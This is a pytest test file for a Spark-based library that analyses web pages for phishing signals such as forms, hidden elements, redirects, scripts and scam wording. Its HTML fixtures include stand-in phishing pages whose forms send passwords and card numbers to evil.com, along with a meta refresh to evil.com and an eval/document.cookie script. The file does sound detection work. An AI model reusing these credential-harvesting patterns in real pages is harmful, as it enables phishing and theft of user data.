"""Page operators on small fixtures: all are analysed by one job."""

import json
import unicodedata
from urllib.parse import urljoin, urlsplit

import pytest
from pyspark.sql import functions as F

from sievemill.functions import text
from sievemill.functions.suffixes import NONE, finder, registrable, suffix_rules
from sievemill.operators import dom, pages, payloads as payload_rows, structure, texts
from sievemill.operators.dom import parse, tree
from sievemill.operators.pages import analyze_pages
from sievemill.operators.payloads import inventory, payloads
from sievemill.plans.analysis import analyze_site

LOGIN = "https://example.com/login"
HOME = """<html lang="en"><head><title>Win a prize</title><meta http-equiv="refresh" content="0; url=https://evil.com/x"></head><body>
<h1>You won</h1><p>Claim your free prize now</p><form action="http://evil.com/p" method="post"><input type="password" name="pw">
<input name="cardnumber"></form><script>eval(atob("x")); document.cookie</script><script src="https://www.google-analytics.com/a.js"></script>
<a href="/about">About</a><a href="https://evil.com/">Out</a><div style="display:none">secret words</div></body></html>"""
ABOUT = "<html><head><title>About</title></head><body><p>We are a shop.</p><a href='/'>Home</a></body></html>"

FIXTURES = {
    "skeleton": "<html><body><div><p>x</p></div></body></html>",
    "fragment": "<div><p>a</p><p>b</p><p>c</p></div>",
    "many": "<html><body>" + "<span></span>" * 12 + "</body></html>",
    "form": """<form action="http://evil.com/s" method="POST"><input type="email" name="e"><input type="password" name="p">
        <input name="cardNumber" autocomplete="cc-number"><input type="hidden" name="t"></form>""",
    "form_relative": '<form action="/submit"><input name="q"></form>',
    "form_empty": "<form></form>",
    "form_kinds": '<form><select name="s"></select><textarea name="t"></textarea></form>',
    "form_nested": "<form><input name=a><form><input name=cvv></form></form>",
    "form_email": '<form><input name="user_email"></form>',
    "css": """<style>.a{display:none} .b{visibility: hidden; opacity:0}</style><link rel="stylesheet" href="/a.css"><link rel="stylesheet" href="https://cdn.other.com/b.css">
        <link rel="icon" href="/i.ico"><p style="color:red">x</p><p style="">y</p>""",
    "hidden": """<div style="display:none">a</div><div style="visibility:hidden">b</div><div style="opacity:0">c</div><div style="left:-9999px">d</div><div hidden>e</div>
        <div aria-hidden="true">f</div><input type="hidden" hidden><div style="color:red">seen</div>""",
    "hidden_many": "<i hidden>x</i>" * 250,
    "meta": """<html lang="en"><head><title>  Harbour News  </title><meta name="Description" content="d"><meta name="keywords" content="k"><meta name="generator" content="g"><meta charset="utf-8">
        <meta property="og:title" content="t1"><meta property="og:site_name" content="s"><meta property="OG:title" content="t2"><meta http-equiv="refresh" content="5; url='https://evil.com/next'">
        <link rel="canonical" href="/c"><link rel="shortcut icon" href="/f.ico"></head></html>""",
    "meta_comma": '<meta http-equiv="refresh" content="5,url=x"><title>t</title>',
    "resources": """<img src="/a.png"><img src="https://evil.com/b.png"><iframe src="https://evil.com/f"></iframe><object data="/o"></object><embed src="/e"><video src="/v"></video>
        <source src="https://other.com/m"><link rel="preload" href="/p"><link rel="stylesheet" href="https://third.com/c.css"><script src="https://fourth.com/s.js"></script>""",
    "links": """<a href="/a">1</a><a href="b">2</a><a href="https://sub.example.com/">3</a><a href="https://x.com/">4</a><a href="http://y.org">5</a><a href="//x.com/z">6</a>
        <a href="mailto:post@q.net?subject=hi">7</a><a href="tel:+4930">8</a><a href="#top">9</a><a href="javascript:void(0)">10</a><a>none</a>""",
    "links_odd": '<a href="http://localhost/x">l</a><a href="whatsapp:123">w</a><a href="">e</a><a href="http://[::1">bad</a>',
    "inline": """<script>let z=3;</script><script src="/x.js"></script><script type="application/ld+json">{"a":1}</script><script type="text/javascript">start();</script><script>  </script>
        <script type="application/json; charset=utf-8">code()</script>""",
    "external": """<script src="/app.js"></script><script src="https://www.google-analytics.com/a.js"></script><script async src="https://cdn.jsdelivr.net/x.js"></script>
        <script defer src="https://unknown.biz/y.js"></script><script src=""></script>""",
    "handlers": '<body onload="a()"><b onclick="c()" one="t">x</b><img onerror="d()"></body>',
    "js_urls": '<iframe src="javascript:alert(1)"></iframe><a href="javascript:void(0)">x</a><a href="/y">y</a>',
    "visible": "<html><head><title>t</title></head><body>Salt <!-- no --><script>x</script><style>y</style><p>Pepper</p></body></html>",
    "visible_bare": "dropped<p>Stays</p>",
    "visible_noscript": "<noscript>gone<p>one</p></noscript><template><p>two</p></template>",
    "slots": """<title>T</title><meta name="description" content="D"><h1>H<b>1</b></h1><h2> </h2><p>a <b>b</b></p><li>L</li><a>A</a><button>Order</button><input type="submit" value="Go">
        <input type="text" placeholder="ph"><img alt="alt"><i aria-label="al"></i><label>lab</label>""",
    "unclosed": "<p>a<p>b</b></div><br>c",
    "empty": "",
    "scam": "<title>Mailbox Suspended Today</title><body><p>You won a free gift card prize, claim your reward. URGENT! Your account is suspended, verify now:</p><style>immediately</style></body>",
    "odd_text": "<body><p>pаypal fr​ee​ U R G E N T</p></body>",
}


@pytest.fixture(scope="session")
def got(spark):
    rows = [(k, LOGIN, "example.com", v) for k, v in FIXTURES.items()] + [("null", None, "example.com", None)]
    pages = spark.createDataFrame(rows, "name string, url string, home_domain string, html string")
    found = analyze_pages(pages).select("name", F.to_json(F.struct("web_code", "scripts", "text"), {"ignoreNullFields": "false"}).alias("j"))
    return {r["name"]: json.loads(r["j"]) for r in found.collect()}


def counts(pairs):
    return {p["value"]: p["n"] for p in pairs}


def test_skeleton(got):
    s = got["skeleton"]["web_code"]["skeleton"]
    assert (s["element_count"], s["max_depth"], s["outline"]) == (4, 4, "body\n  div\n    p")
    assert counts(s["tag_counts"]) == dict.fromkeys(("html", "body", "div", "p"), 1)
    assert counts(got["fragment"]["web_code"]["skeleton"]["tag_counts"])["p"] == 3
    assert got["fragment"]["web_code"]["skeleton"]["max_depth"] == 3
    lines = got["many"]["web_code"]["skeleton"]["outline"].split("\n")
    assert lines == ["body", *["  span"] * 10, "  ... (+2 more)"]


def test_forms(got):
    (f,) = got["form"]["web_code"]["forms"]
    assert (f["action_domain"], f["action_off_domain"], f["action_insecure"], f["method"]) == ("evil.com", True, True, "post")
    assert (f["input_count"], f["hidden_input_count"]) == (4, 1)
    assert counts(f["field_type_counts"]) == {"email": 1, "password": 1, "text": 1, "hidden": 1}
    assert f["has_password_field"] and f["has_email_field"] and f["has_payment_field"]
    (f,) = got["form_relative"]["web_code"]["forms"]
    assert f["action_url"] == "https://example.com/submit" and f["method"] == ""
    assert not any(f[k] for k in ("action_off_domain", "action_insecure", "has_password_field", "has_email_field", "has_payment_field"))
    assert got["form_empty"]["web_code"]["forms"][0]["action_url"] == LOGIN
    assert counts(got["form_kinds"]["web_code"]["forms"][0]["field_type_counts"]) == {"select": 1, "textarea": 1}
    assert [f["input_count"] for f in got["form_nested"]["web_code"]["forms"]] == [2, 1]
    assert got["form_email"]["web_code"]["forms"][0]["has_email_field"]


def test_css_and_hidden(got):
    c = got["css"]["web_code"]["css"]
    assert (c["inline_style_count"], c["style_block_count"], len(c["stylesheets"])) == (2, 1, 2)
    # "opacity:0}" at the end of a rule isn't counted
    assert (c["third_party_stylesheet_count"], c["suspicious_declaration_count"]) == (1, 2)
    assert [h["technique"] for h in got["hidden"]["web_code"]["hidden_elements"]] == [
        "display:none", "visibility:hidden", "opacity:0", "offscreen", "hidden-attr", "aria-hidden",
    ]
    assert got["hidden_many"]["web_code"]["features"]["hidden_element_count"] == 200


def test_metadata(got):
    m = got["meta"]["web_code"]["metadata"]
    assert (m["title"], m["description"], m["keywords"], m["generator"], m["lang"], m["charset"]) == ("Harbour News", "d", "k", "g", "en", "utf-8")
    assert (m["favicon"], m["canonical"]) == ("https://example.com/f.ico", "https://example.com/c")
    assert [(x["key"], x["value"]) for x in m["og"]] == [("og:title", "t2"), ("og:site_name", "s")]
    assert (m["meta_refresh"]["delay"], m["meta_refresh"]["url"]) == ("5", "https://evil.com/next")
    assert got["meta"]["web_code"]["features"]["meta_refresh_off_domain"]
    assert (got["meta_comma"]["web_code"]["metadata"]["meta_refresh"]["delay"], got["meta_comma"]["web_code"]["metadata"]["meta_refresh"]["url"]) == ("5,url=x", "")
    assert got["css"]["web_code"]["metadata"]["meta_refresh"] is None


def test_resources_and_links(got):
    r = got["resources"]["web_code"]["resources"]
    assert counts(r["counts"]) == {"image": 2, "iframe": 1, "object": 1, "embed": 1, "media": 2, "preload": 1}
    assert r["third_party_domains"] == ["evil.com", "other.com"]
    x = got["links"]["web_code"]["links"]
    assert x["counts"] == {"internal": 3, "external": 3, "mailto": 1, "tel": 1, "other": 2, "total": 10}
    assert (x["mailto"], x["tel"], x["outbound_ratio"], x["external_domains"]) == (["post@q.net"], ["+4930"], 0.5, ["x.com", "y.org"])
    odd = got["links_odd"]["web_code"]["links"]
    assert odd["counts"] == {"internal": 3, "external": 0, "mailto": 0, "tel": 0, "other": 1, "total": 4}
    assert "http://[::1" in odd["internal"] and odd["outbound_ratio"] == 0.0


def test_scripts(got):
    s = got["inline"]["scripts"]
    assert [i["code"] for i in s["inline_scripts"]] == ["let z=3;", "start();", "code()"] and s["json_data_block_count"] == 1
    e = got["external"]["scripts"]["external_scripts"]
    assert [x["origin"] for x in e] == ["first-party", "known-tracker", "known-cdn", "third-party", "first-party"]
    assert [x["is_async"] for x in e] == [False, False, True, False, False] and e[3]["is_defer"] and e[4]["url"] == LOGIN
    assert [(h["attribute"], h["code"]) for h in got["handlers"]["scripts"]["event_handlers"]] == [("onload", "a()"), ("onclick", "c()"), ("one", "t"), ("onerror", "d()")]
    assert got["js_urls"]["scripts"]["javascript_urls"] == ["javascript:void(0)", "javascript:alert(1)"]


def test_text(got):
    visible = {k: got[k]["text"]["visible_text"] for k in got}
    assert visible["visible"] == "Salt Pepper" and visible["visible_bare"] == "Stays" and visible["visible_noscript"] == "one two"
    s = got["slots"]["text"]["structured"]
    assert (s["title"], s["meta_description"], s["headings"], s["paragraphs"], s["list_items"], s["link_texts"]) == ("T", "D", ["H1"], ["ab"], ["L"], ["A"])
    assert (s["button_texts"], s["image_alts"], s["aria_labels"], s["placeholders"], s["labels"]) == (["Order", "Go"], ["alt"], ["al"], ["ph"], ["lab"])
    assert got["slots"]["text"]["key_snippets"] == ["T", "H1", "Order", "Go", "D"]
    assert got["unclosed"]["text"]["structured"]["paragraphs"] == ["abc", "bc"]
    f = got["scam"]["text"]["features"]
    assert (f["urgency_hit_count"], f["money_hit_count"], f["threat_hit_count"], f["exclamation_count"]) == (2, 6, 1, 1)
    assert got["scam"]["text"]["key_snippets"][0] == "Mailbox Suspended Today"
    o = got["odd_text"]["text"]["obfuscation"]
    assert o == {"has_zero_width": True, "zero_width_count": 2, "mixed_script_words": ["pаypal"], "has_excessive_spacing": True}


@pytest.mark.parametrize("name", ["empty", "null"])
def test_pages_without_content(got, name):
    assert got[name]["web_code"]["features"]["element_count"] == 0 and got[name]["web_code"]["features"]["max_dom_depth"] == 1
    assert got[name]["text"]["visible_text"] == "" and got[name]["scripts"]["features"]["max_suspicious_score"] == 0


def test_outline_is_bounded(spark):
    deep = "<html><body>" + "<div>" * 9 + "</div>" * 9 + "<ul>" + "<li><b></b></li>" * 30 + "</ul>" * 3 + "</body></html>"
    pages = spark.createDataFrame([(LOGIN, deep)], "url string, html string")
    lines = parse(pages).select(structure.skeleton(F.col("dom"), max_lines=15)["outline"].alias("o")).first()["o"].split("\n")
    assert len(lines) == 15 and lines[:7] == ["body", *["  " * k + "div" for k in range(1, 6)], "  ul"]
    full = parse(pages).select(structure.skeleton(F.col("dom"))["outline"].alias("o")).first()["o"].split("\n")
    assert full[-1] == "    ... (+20 more)" and full.count("    li") == 10


@pytest.fixture(scope="session")
def site(spark):
    pages = spark.createDataFrame([(0, "https://example.com/", HOME), (1, "https://example.com/about", ABOUT)], "pos long, url string, html string")
    return analyze_site(pages)


def test_site_features(site):
    row = site[1].first().asDict()
    expected = {
        "home_domain": "example.com", "page_count": 2, "form_count": 1, "pages_with_off_domain_form_action": 1, "any_password_form": True,
        "any_payment_form": True, "any_insecure_form_action": True, "pages_with_meta_refresh": 1, "pages_with_meta_refresh_off_domain": 1,
        "pages_with_hidden_elements": 1, "external_script_domains": ["google-analytics.com"], "known_tracker_domains": ["google-analytics.com"],
        "third_party_resource_domains": [], "external_link_domains": ["evil.com"], "max_suspicious_script_score": 3, "any_eval_script": True,
        "any_redirect_script": False, "total_urgency_hits": 0, "total_money_hits": 4, "total_credential_hits": 0, "total_threat_hits": 0,
        "any_zero_width_text": False, "any_mixed_script_text": False,
    }
    assert row == expected


def test_site_without_pages(spark):
    _, features = analyze_site(spark.createDataFrame([], "pos long, url string, html string"))
    row = features.first()
    assert (row["page_count"], row["home_domain"], row["any_eval_script"], row["external_link_domains"]) == (0, "None", False, [])


def test_payloads(site):
    rows = payloads(site[0]).orderBy("seq").collect()
    assert len({r["payload_id"] for r in rows}) == len(rows) and [r["seq"] for r in rows] == list(range(len(rows)))
    first = [r["artifact_type"] for r in rows if r["url"] == "https://example.com/"]
    assert first == ["text_snippets", "text_chunk", "inline_script", "external_script_ref", "metadata", "form", "hidden_elements"]
    by = {r["artifact_type"]: r for r in rows}
    assert by["form"]["content"] == "action=http://evil.com/p method=post off_domain=True insecure=True fields={'password': 1, 'text': 1}"
    assert rows[4]["content"] == "title='Win a prize' description='' meta_refresh={'delay': '0', 'url': 'https://evil.com/x'}"
    assert by["hidden_elements"]["content"] == "display:none: secret words"
    assert json.loads(by["inline_script"]["context"]) == {"home_domain": "example.com", "page_title": "Win a prize", "script_index": 0, "chunk_index": 0, "chunk_total": 1}
    assert json.loads(rows[4]["features"]) == {"has_meta_refresh": True, "meta_refresh_off_domain": True, "title": "Win a prize"}
    assert all(len(r["content"]) <= 5 for r in payloads(site[0], limit=5).collect())


def test_unclosed_elements_share_their_text():
    n = 2000
    got = tree("<p>" + "<p>några ord".join([""] * (n + 1)), LOGIN, frozenset())
    assert sum(len(e["code"] or "") for e in got["elements"]) == 0 and len(got["spoken"]) == n * len("några ord".encode())
    assert (got["elements"][1]["at"], got["elements"][1]["size"]) == (0, len(got["spoken"]))
    assert got["elements"][n]["size"] == len("några ord".encode())


def test_texts_of_elements_are_those_of_a_plain_walk(spark):
    html = "a<h1>é<b>ü </b><p>ß &amp; x<li>漢字<script>no</script><p hidden>q<style>no</style></h1>z<title>𝕏y</title></div></p>end"
    got = spark.createDataFrame([(LOGIN, html)], "url string, html string")
    s = parse(got).select(texts.structured(F.col("dom")).alias("s")).first()["s"]
    assert (s["title"], s["headings"], s["paragraphs"], s["list_items"]) == ("𝕏y", ["éüß & x漢字q"], ["ß & x漢字q", "q"], ["漢字q"])


def test_home_domains_of_many_sites(spark, monkeypatch):
    rows = [("big", k, f"https://big.com/{k}") for k in range(300)] + [(f"s{k}", 2, f"https://s{k}.org/") for k in range(40)]
    rows += [("s0", 1, "http://localhost/"), ("bare", 1, "http://localhost/"), (None, 1, "https://none.com/"), (None, 2, "https://none.com/")]
    table = spark.createDataFrame(rows, "site string, pos int, url string")
    few = pages.with_home(table, site="site").select("site", "pos", "url", "home_domain")
    monkeypatch.setattr(pages, "BROADCAST_SITES", 3)
    monkeypatch.setattr(pages, "HOT_SHARE", 10)
    many = pages.with_home(table, site="site").select("site", "pos", "url", "home_domain")
    assert sorted(map(str, few.collect())) == sorted(map(str, many.collect()))
    home = {r["site"]: r["home_domain"] for r in many.collect()}
    assert len(few.collect()) == len(rows) and (home["big"], home["s0"], home["s39"]) == ("big.com", "s0.org", "s39.org")
    assert home["bare"] == home[None] == NONE


def test_doms_are_built_in_batches_of_bounded_size(spark):
    assert list(dom._cuts([])) == [] and list(dom._cuts([None] * 3)) == [(0, 3)]
    sizes = [10, None, dom.CHARS, 5, dom.CHARS * 9, *[1] * (2 * dom.PAGES + 1), dom.CHARS // 2, dom.CHARS // 2 + 1]
    cuts = list(dom._cuts(sizes))
    assert [k for a, b in cuts for k in range(a, b)] == list(range(len(sizes)))
    assert all(b - a <= dom.PAGES and (b - a == 1 or sum(s or 0 for s in sizes[a:b]) <= dom.CHARS) for a, b in cuts)


def test_page_reports_pass_python_once(spark):
    got = spark.createDataFrame([(1, LOGIN, "<p>x</p>", "example.com")], "pos int, url string, html string, home_domain string")
    plan = pages.analyze_pages(got)._jdf.queryExecution().optimizedPlan().toString()
    assert plan.count("MapInArrow") == 1 and "ArrowEvalPython" not in plan


def test_normal_text_is_that_of_the_whole(spark):
    html = "<p>ﬁ</p>́x<p>́</p>a ̀<b>Å</b>ᄀ<i>ᅡ</i>½´ <p>ＶＥＲＩＦＹ　ﷺ<p>é\u0085 ̧"
    got = parse(spark.createDataFrame([(LOGIN, html)], "url string, html string"))
    row = got.select(texts.visible_text(F.col("dom")).alias("v"), texts.normal_text(F.col("dom")).alias("n")).first()
    assert row["n"] == " ".join(unicodedata.normalize("NFKC", row["v"]).split()) != row["v"]


def test_plain_references_are_those_of_urljoin():
    rules = suffix_rules()
    bases = [LOGIN, "HTTPS://A.Example.co.uk:80/x/y?q#f", "http://[bad", "", "mailto:a@b.com", "//h.org/x", "https://u@h.com"]
    refs = ["/", "/a", "/a/", "//b.org", "//", "/a//b", "/a/../b", "/a;b", "/a?b", "https://B.org", "http://b.org/", "https://b.org/a/../b", "HTTP://b.org/x", "https://b.org/x?", "https://", "", "#t", "tel:+1", "http://[", "/a\tb", "/é"]
    for base in bases:
        resolved = dom.resolver(base, finder(rules))
        for ref in refs:
            try:
                want = urljoin(base, ref)
                urlsplit(want)
                want = want, registrable(want, rules)
            except ValueError:
                want = ref, NONE
            assert resolved(ref) == want


def test_inventory_counts_payloads_and_writes_none(site, monkeypatch):
    found = payloads(site[0], "home_domain").groupBy("site", "artifact_type").agg(F.count(F.lit(1)).alias("n"))
    want = sorted(found.collect())
    monkeypatch.setattr(payload_rows, "written", None)
    assert sorted(inventory(site[0]).collect()) == want
    assert sorted(inventory(site[0], "home_domain", "text_chunk").collect()) == [r for r in want if r["artifact_type"] != "text_chunk"]


def test_text_is_put_in_lower_case_once_a_lexicon(spark):
    got = spark.createDataFrame([("İSTANBUL: Act NOW, PASSWORD",)], "t string").select(text.signals(F.col("t")).alias("s"))
    assert got._jdf.queryExecution().optimizedPlan().toString().count("lower(t") <= len(text.LEXICONS)
    assert got.select("s.urgency_hits", "s.credential_hits").first() == (["act now"], ["password"])
